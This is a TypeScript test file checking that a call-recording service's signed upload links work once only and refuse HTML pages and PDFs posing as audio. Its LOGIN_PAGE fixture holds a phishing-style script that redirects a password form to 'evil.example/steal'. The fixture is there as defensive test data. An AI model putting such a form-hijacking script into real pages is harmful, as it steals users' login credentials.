import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { and, eq, sql } from 'drizzle-orm';
import type { AddressInfo } from 'node:net';
import { bearer, createTestApp, injector, seedAccount, type TestApp } from '../../testing/app.js';
import { backendName } from '../../testing/database.js';
import { startServer, type TestServer } from '../../testing/http-servers.js';
import { jobs } from '../../platform/jobs/index.js';
import { calls } from '../../core/calls/calls.tables.js';
import {
  callIdOfUploadUrl,
  createModjoUser,
  latestCall,
  modjoHeaders,
  putSigned,
  uploadBody,
  waitForSettled,
} from './modjo-test-kit.js';

/** A valid PCM WAV of silence: what a sniffer recognises as audio. */
function silentWav(seconds: number, sampleRate = 8000): Buffer {
  const data = Buffer.alloc(seconds * sampleRate * 2);
  const header = Buffer.alloc(44);
  header.write('RIFF', 0, 'ascii');
  header.writeUInt32LE(36 + data.length, 4);
  header.write('WAVEfmt ', 8, 'ascii');
  header.writeUInt32LE(16, 16);
  header.writeUInt16LE(1, 20);
  header.writeUInt16LE(1, 22);
  header.writeUInt32LE(sampleRate, 24);
  header.writeUInt32LE(sampleRate * 2, 28);
  header.writeUInt16LE(2, 32);
  header.writeUInt16LE(16, 34);
  header.write('data', 36, 'ascii');
  header.writeUInt32LE(data.length, 40);
  return Buffer.concat([header, data]);
}

const LOGIN_PAGE = Buffer.from(
  '<!DOCTYPE html><html><body><form action="/login"><input name="password"></form>' +
    '<script>document.forms[0].action = "https://evil.example/steal"</script></body></html>',
);

describe(`Modjo signed uploads: single use, and only recordings (${backendName})`, () => {
  let app: TestApp;
  let inject: ReturnType<typeof injector>;
  let account: { accountId: number; apiKey: string };
  let baseUrl: string;
  let files: TestServer;
  const wav = silentWav(1);

  beforeAll(async () => {
    files = await startServer((request, response) => {
      if (request.url === '/login-as-audio.mp3') {
        response.writeHead(200, { 'content-type': 'audio/mpeg' }).end(LOGIN_PAGE);
      } else if (request.url === '/pdf-as-octet-stream') {
        response
          .writeHead(200, { 'content-type': 'application/octet-stream' })
          .end('%PDF-1.7\n%\xe2\xe3\n1 0 obj');
      } else response.writeHead(404).end();
    });
    app = await createTestApp({
      PARLEY_OUTBOUND_ALLOWLIST: ['127.0.0.1'],
      PARLEY_TRANSCRIPTION_ENGINE: 'none',
    });
    inject = injector(app);
    account = await seedAccount(app, 'Uploads Inc');
    await inject({
      method: 'PATCH',
      url: `/api/v1/accounts/${account.accountId}`,
      headers: bearer(account.apiKey),
      payload: { settings: { callMinimumDurationSeconds: 0 } },
    });
    await createModjoUser(inject, account.apiKey, 'agent@example.com');
    await app.parley.server.listen({ port: 0, host: '127.0.0.1' });
    baseUrl = `http://127.0.0.1:${(app.parley.server.server.address() as AddressInfo).port}`;
  });

  afterAll(async () => {
    await app.close();
    await files.close();
  });

  async function newUploadLink(): Promise<{ uploadTo: string; callId: number; key: string }> {
    const created = await inject({
      method: 'POST',
      url: '/modjo/v1/calls',
      headers: modjoHeaders(account.apiKey),
      payload: uploadBody(),
    });
    const { uploadTo } = created.json<{ uploadTo: string }>();
    const callId = callIdOfUploadUrl(uploadTo);
    return { uploadTo, callId, key: `calls/${account.accountId}/${callId}/recording.wav` };
  }

  /** The signed link, on the real listening port rather than the public URL. */
  function onPort(uploadTo: string): string {
    const url = new URL(uploadTo);
    return `${baseUrl}${url.pathname}${url.search}`;
  }

  async function processJobsOf(callId: number): Promise<number> {
    return app.parley.ctx.db.$count(
      jobs,
      and(eq(jobs.name, 'calls.process'), sql`${jobs.payload}->>'callId' = ${String(callId)}`),
    );
  }

  it('lets exactly one of 8 concurrent PUTs to one link store the recording; the others get 409', async () => {
    const { uploadTo, callId, key } = await newUploadLink();
    const bodies = Array.from({ length: 8 }, (_, index) => {
      const body = Buffer.from(wav);
      body.writeUInt8(index + 1, 44); // a different recording each, to see which one was kept
      return body;
    });

    const responses = await Promise.all(
      bodies.map(async (body) => {
        const response = await fetch(onPort(uploadTo), {
          method: 'PUT',
          headers: { 'content-type': 'audio/wav' },
          body,
        });
        return { status: response.status, json: (await response.json()) as Record<string, unknown> };
      }),
    );

    const winners = responses.filter((response) => response.status === 201);
    const losers = responses.filter((response) => response.status !== 201);
    expect(winners).toHaveLength(1);
    expect(losers.map((response) => response.status)).toEqual(Array(7).fill(409));
    for (const loser of losers) {
      expect(JSON.stringify(loser.json)).toMatch(/already (been used|in progress)/);
    }
    const stored = await app.parley.ctx.storage.get(key);
    const kept = bodies.filter((body) => body.equals(stored));
    expect(kept).toHaveLength(1);
    expect(winners[0]!.json).toMatchObject({ key, size: wav.length });
    expect(await processJobsOf(callId)).toBe(1);
  });

  it('refuses an HTML page uploaded as audio/mpeg with 415, stores nothing, and keeps the link usable', async () => {
    const { uploadTo, callId, key } = await newUploadLink();

    const html = await putSigned(inject, uploadTo, LOGIN_PAGE, 'audio/mpeg');
    const pdf = await putSigned(
      inject,
      uploadTo,
      Buffer.from('%PDF-1.7\n1 0 obj\n<< >>\nendobj\n'),
      'audio/wav',
    );
    const declaredHtml = await putSigned(inject, uploadTo, LOGIN_PAGE, 'text/html');
    const storedAfterRefusals = await app.parley.ctx.storage.stat(key);
    const good = await putSigned(inject, uploadTo, wav, 'audio/wav');

    expect(html.statusCode).toBe(415);
    expect(html.json().error.message).toBe('The upload is an HTML document, not an audio or video recording');
    expect(pdf.statusCode).toBe(415);
    expect(pdf.json().error.message).toMatch(/PDF document/);
    expect(declaredHtml.statusCode).toBe(415);
    expect(declaredHtml.json().error.message).toMatch(/must be audio or video, not text\/html/);
    expect(storedAfterRefusals).toBeNull();
    expect(good.statusCode).toBe(201);
    expect(await processJobsOf(callId)).toBe(1);
    const [row] = await app.parley.ctx.db.select().from(calls).where(eq(calls.id, callId));
    expect(row?.state).not.toBe('pending_upload');
  });

  it('fails a downloaded call whose URL serves an HTML page as audio/mpeg, or a PDF, keeping no file', async () => {
    await app.parley.startBackground();
    const outcomes = [];
    for (const path of ['/login-as-audio.mp3', '/pdf-as-octet-stream']) {
      const response = await inject({
        method: 'POST',
        url: '/modjo/v1/calls',
        headers: modjoHeaders(account.apiKey),
        payload: uploadBody({ recordingUrl: files.url(path), fileExtension: 'mp3' }),
      });
      expect(response.statusCode).toBe(200);
      const { id } = await latestCall(app, account.accountId);
      outcomes.push(await waitForSettled(app, account.accountId, id, 20_000));
    }

    const [html, pdf] = outcomes;
    expect(html).toMatchObject({ state: 'failed', recordingKey: null });
    expect(html!.failureReason).toBe('the recording URL served an HTML document, not audio');
    expect(pdf).toMatchObject({ state: 'failed', recordingKey: null });
    expect(pdf!.failureReason).toBe('the recording URL served a PDF document, not audio');
    for (const call of outcomes) {
      expect(
        await app.parley.ctx.storage.stat(`calls/${account.accountId}/${call.id}/recording.mp3`),
      ).toBeNull();
    }
  });
});
